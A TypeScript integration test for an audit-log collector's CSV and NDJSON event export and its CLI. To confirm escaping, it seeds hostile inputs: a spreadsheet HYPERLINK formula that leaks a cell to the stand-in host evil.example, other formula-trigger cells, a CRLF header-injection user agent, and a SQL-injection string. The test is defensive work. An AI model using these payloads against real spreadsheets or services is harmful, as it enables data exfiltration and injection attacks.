/*
 * Downloading events ("Download events" in CloudTrail's console): GET /api/v1/events with
 * format=csv|ndjson streams every matching event, for the same filters as the JSON lookup, and
 * `crumbtrail lookup-events --output csv` prints the same CSV. Against the real collector (a
 * child process with a temporary SQLite file) and the built CLI, seeded over OTLP/JSON with
 * events dated relative to now. The CSV is read back with a real CSV parser (csv-parse).
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { resolve } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { EVENT_CSV_HEADERS } from '../../src/api/export/event-csv.js';
import type { CloudTrailRecord } from '../../src/events/cloudtrail-record.js';
import { killedOnExit } from '../support/child-processes.js';
import { type CollectorProcess, startCollectorProcess } from '../support/collector-process.js';
import {
  auditJsonSpan,
  exportRequestJson,
  freshSpanId,
  postJsonExport,
  stringAttribute,
} from '../support/otlp-json.js';

const CLI_BIN = resolve(import.meta.dirname, '../../bin/crumbtrail.js');
const START = Date.now() - 60 * 60_000;
/** More than two store pages (1000 each), so the stream must page. */
const BULK = 2_345;
/** Audit data comes from callers: cells a spreadsheet would run, separators, quotes, newlines. */
const AWKWARD_USERS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1-2',
  '@SUM(A1)',
  'o"brien, jr.',
];
const AWKWARD_AGENT = 'curl/8.5\r\nX-Injected: yes';

function csvRows(text: string): string[][] {
  // Without `columns`, each row is an array of cells; a row of another length throws.
  const rows: string[][] = parse(text);
  return rows;
}

async function seed(collector: CollectorProcess): Promise<void> {
  const spans = Array.from({ length: BULK }, (_, index) =>
    auditJsonSpan(freshSpanId(), START + index * 1000, index % 3 === 0 ? 'DeleteUser' : 'ListUsers', [
      stringAttribute('crumbtrail.event.source', 'iam.example.com'),
      stringAttribute(
        'user.name',
        index < AWKWARD_USERS.length ? (AWKWARD_USERS[index] ?? '') : `user-${index % 7}`,
      ),
      stringAttribute('user_agent.original', index === 0 ? AWKWARD_AGENT : 'aws-sdk-js/3'),
    ]),
  );
  for (let offset = 0; offset < spans.length; offset += 1000) {
    const answer = await postJsonExport(
      collector.otlpUrl,
      exportRequestJson(spans.slice(offset, offset + 1000)),
    );
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
  }
}

/** Every matching record through the JSON lookup's pages: what an export must hold. */
async function allByPaging(apiUrl: string, filters: string): Promise<CloudTrailRecord[]> {
  const records: CloudTrailRecord[] = [];
  let token: string | undefined;
  do {
    const url = `${apiUrl}/api/v1/events?${filters}&maxResults=1000${token === undefined ? '' : `&nextToken=${encodeURIComponent(token)}`}`;
    const page = (await (await fetch(url)).json()) as { events: CloudTrailRecord[]; nextToken?: string };
    records.push(...page.events);
    token = page.nextToken;
  } while (token !== undefined);
  return records;
}

function runCli(args: readonly string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolveRun, rejectRun) => {
    const child = spawn(process.execPath, [CLI_BIN, ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
    killedOnExit(child);
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
    child.once('error', rejectRun);
    child.once('close', (code) => {
      resolveRun({ code, stdout, stderr });
    });
  });
}

describe('downloading events: format=csv|ndjson and lookup-events --output csv', () => {
  let collector: CollectorProcess | undefined;
  const api = () => {
    assert.ok(collector !== undefined, 'the collector did not start');
    return collector.apiUrl;
  };

  before(async () => {
    collector = await startCollectorProcess({ args: ['--no-insights'] });
    await seed(collector);
  });

  after(async () => {
    await collector?.stop();
  });

  it('ndjson: every matching event, newest first, one stored record a line, across store pages', async () => {
    const response = await fetch(`${api()}/api/v1/events?eventName=ListUsers&format=ndjson`);
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('content-type'), 'application/x-ndjson');
    assert.match(
      response.headers.get('content-disposition') ?? '',
      /attachment; filename="crumbtrail-events\.ndjson"/,
    );
    const lines = (await response.text()).split('\n');
    assert.equal(lines.pop(), '', 'the last line ends with a newline');
    const exported = lines.map((line) => JSON.parse(line) as CloudTrailRecord);
    const expected = await allByPaging(api(), 'eventName=ListUsers');
    assert.equal(expected.length, BULK - Math.ceil(BULK / 3));
    assert.deepEqual(exported, expected);
  });

  it('csv: the header, then one row per matching event, for the same filters', async () => {
    const filters = 'eventSource=iam.example.com&eventName=DeleteUser&username=user-1&username=user-2';
    const response = await fetch(`${api()}/api/v1/events?${filters}&format=csv`);
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8');
    const [header, ...rows] = csvRows(await response.text());
    assert.deepEqual(header, [...EVENT_CSV_HEADERS]);
    const expected = await allByPaging(api(), filters);
    assert.ok(expected.length > 100);
    assert.deepEqual(
      rows.map((row) => [row[0], row[3], row[4]]),
      expected.map((record) => [record.eventID, 'DeleteUser', record.userIdentity.userName]),
    );
  });

  it('csv: cells a spreadsheet would run as formulas are escaped; separators, quotes and newlines survive', async () => {
    const text = await (
      await fetch(`${api()}/api/v1/events?format=csv&startTime=${START}&endTime=${START + 3000}`)
    ).text();
    const rows = csvRows(text).slice(1).reverse(); // oldest first, as seeded
    const column = (name: (typeof EVENT_CSV_HEADERS)[number]) => EVENT_CSV_HEADERS.indexOf(name);
    assert.deepEqual(
      rows.map((row) => row[column('User name')]),
      ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'+1-2", "'@SUM(A1)", 'o"brien, jr.'],
    );
    assert.equal(rows[0]?.[column('User agent')], AWKWARD_AGENT);
    assert.equal(rows.length, 4);
  });

  it('maxResults caps an export, and a nextToken starts it where a JSON page stopped', async () => {
    const capped = csvRows(await (await fetch(`${api()}/api/v1/events?format=csv&maxResults=5`)).text());
    assert.equal(capped.length, 1 + 5);
    const first = (await (await fetch(`${api()}/api/v1/events?maxResults=10`)).json()) as {
      events: CloudTrailRecord[];
      nextToken: string;
    };
    const rest = (
      await (
        await fetch(
          `${api()}/api/v1/events?format=ndjson&maxResults=3&nextToken=${encodeURIComponent(first.nextToken)}`,
        )
      ).text()
    )
      .trim()
      .split('\n')
      .map((line) => (JSON.parse(line) as CloudTrailRecord).eventID);
    const expected = (await allByPaging(api(), '')).slice(10, 13).map((record) => record.eventID);
    assert.deepEqual(rest, expected);
  });

  it('a bad format, a repeated format or a bad filter gets a 400 that names it', async () => {
    for (const [query, pattern] of [
      ['format=xml', /invalid parameter "format": expected one of json, csv, ndjson/],
      ['format=CSV', /invalid parameter "format"/],
      ['format=csv&format=ndjson', /"format"/],
      ['format=csv&maxResults=0', /invalid parameter "maxResults"/],
      ['format=csv&eventName=' + encodeURIComponent("x' OR 1=1 --"), null],
      ['format=csv&startTime=yesterday', /invalid parameter "startTime"/],
      ['format=ndjson&nextToken=forged', /invalid parameter "nextToken"/],
    ] as const) {
      const response = await fetch(`${api()}/api/v1/events?${query}`);
      if (pattern === null) {
        // An injection attempt is just a value that matches nothing: the header alone.
        assert.equal(response.status, 200, query);
        assert.deepEqual(csvRows(await response.text()), [[...EVENT_CSV_HEADERS]]);
        continue;
      }
      assert.equal(response.status, 400, query);
      assert.match(((await response.json()) as { message: string }).message, pattern, query);
    }
  });

  it('json stays the default, with its page size limit', async () => {
    const response = await fetch(`${api()}/api/v1/events?maxResults=5000`);
    assert.equal(response.status, 400);
    const page = (await (await fetch(`${api()}/api/v1/events?format=json&maxResults=2`)).json()) as {
      events: unknown[];
    };
    assert.equal(page.events.length, 2);
  });

  it('lookup-events --output csv prints the CSV the query API exports, and says how to continue', async () => {
    const run = await runCli([
      'lookup-events',
      '--endpoint',
      api(),
      '--output',
      'csv',
      '--max-results',
      '1500',
      '--lookup-attributes',
      'AttributeKey=EventName,AttributeValue=ListUsers',
    ]);
    assert.equal(run.code, 0, run.stderr);
    const exported = await (
      await fetch(`${api()}/api/v1/events?eventName=ListUsers&format=csv&maxResults=1500`)
    ).text();
    assert.equal(run.stdout, exported);
    assert.equal(csvRows(run.stdout).length, 1 + 1500);
    assert.match(run.stderr, /More events match: continue with --starting-token /);
  });
});
